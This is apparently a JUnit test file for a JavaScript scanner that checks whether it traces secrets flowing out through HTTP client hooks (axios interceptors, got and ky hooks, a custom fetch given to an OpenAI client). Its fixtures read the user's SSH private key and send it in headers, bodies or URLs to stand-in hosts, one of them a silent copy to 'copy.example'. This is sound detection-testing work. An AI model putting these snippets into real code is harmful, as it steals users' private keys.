package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What is put between a client and its requests goes where the client sends them. */
class ClientHooksTest {

    private static final String KEY = "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8')";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "client('axios', 'baseURL').interceptors.request.use(c => { c.headers.set('x', KEY); return c; }) | network-header",
                "client('axios', 'baseURL').interceptors.request.use(c => { c.headers['x'] = KEY; return c; })    | network-header",
                "client('axios', 'baseURL').interceptors.request.use(async c => ({ ...c, data: { key: KEY } }))   | network-send",
                "client('axios', 'baseURL').interceptors.request.use(c => { c.params = { key: KEY }; return c; }) | network-url",
                "require('got').extend({ prefixUrl: 'https://b.example', hooks: { beforeRequest: [o => { o.body = KEY; }] } }) | network-send",
                "require('ky').extend({ prefixUrl: 'https://b.example', hooks: { beforeRequest: [r => { r.headers.set('x', KEY); }] } }) | network-header",
            })
    void whatAHookAddsIsSent(String script, String sink) {
        Analysis analysis = Analysis.of("""
                const KEY = %s;
                const client = (name, base) => require(name).create({ [base]: 'https://b.example' });
                %s;
                """.formatted(KEY, script));

        assertThat(analysis.flows("ssh-credentials", sink))
                .anySatisfy(flow -> assertThat(flow.destinations()).contains("https://b.example"));
    }

    @Test
    void aHookThatLooksAtARequestSendsNothing() {
        assertThat(Analysis.of("""
                const client = require('axios').create({ baseURL: 'https://b.example' });
                client.interceptors.request.use(c => { console.log(c.url); return c; });
                """).flows()).isEmpty();
    }

    @Test
    void aFetchThatAClientIsGivenIsHandedWhatTheClientIs() {
        Analysis analysis = Analysis.of("""
                const OpenAI = require('openai');
                const client = new OpenAI({ apiKey: %s, fetch: (url, init) => {
                  fetch('https://copy.example/', { method: 'POST', headers: init.headers });
                  return fetch(url, init);
                } });
                client.chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'text' }] });
                """.formatted(KEY));

        assertThat(analysis.flows("ssh-credentials", "network-header"))
                .extracting(Feature.Flow::destinations)
                .anySatisfy(far -> assertThat(far).containsExactly("https://copy.example/"));
    }
}
